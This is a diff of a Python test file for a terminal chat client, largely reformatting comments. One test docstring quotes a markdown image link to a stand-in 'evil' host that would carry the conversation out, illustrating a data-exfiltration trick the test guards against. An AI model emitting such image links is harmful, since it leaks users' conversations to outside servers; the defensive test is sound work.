@@ -94,7 +94,8 @@ async def test_stopped_before_the_first_token_nothing_is_lost(tmp_path: Path) ->
         assert chat.line() == ["Too long", ""]
         assert chat.footers()[-1] == "stopped before the first word"
         await chat.send("Shorter")
-        assert [m["content"] for m in chat.engine.asked[-1].messages] == ["Shorter"]  # the model is spared the other
+        # the model is spared the other
+        assert [m["content"] for m in chat.engine.asked[-1].messages] == ["Shorter"]
 
 
 async def test_a_message_sent_while_loading_is_kept_and_answered_then(tmp_path: Path) -> None:
@@ -191,7 +192,7 @@ async def test_a_link_shows_where_it_leads_and_opens_nothing(tmp_path: Path, mon
 
 
 async def test_an_image_is_its_words_and_nothing_is_fetched(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    """To fetch it would tell a stranger's server what was said: ![](http://evil/?the-conversation)."""
+    """To fetch it would tell a stranger's server what was said: ![](http://evil/?all-of-it)."""
     reached: list[object] = []
     for name in ("connect", "connect_ex", "sendto"):
         monkeypatch.setattr(socket.socket, name, lambda self, *given, **more: reached.append(given))
@@ -384,7 +385,8 @@ def test_native_output_goes_to_the_log_and_the_terminal_comes_back(
         assert sys.__stderr__ is not None
         sys.__stderr__.write("drawn by Textual")
     os.write(2, b"back again")
-    assert capfd.readouterr() == ("drawn by Textual", "back again")  # on stdout: `2>file` must not catch it
+    # on stdout: `2>file` must not catch it
+    assert capfd.readouterr() == ("drawn by Textual", "back again")
     assert (tmp_path / "logs" / "chat.log").read_text() == "native noise"
 
 
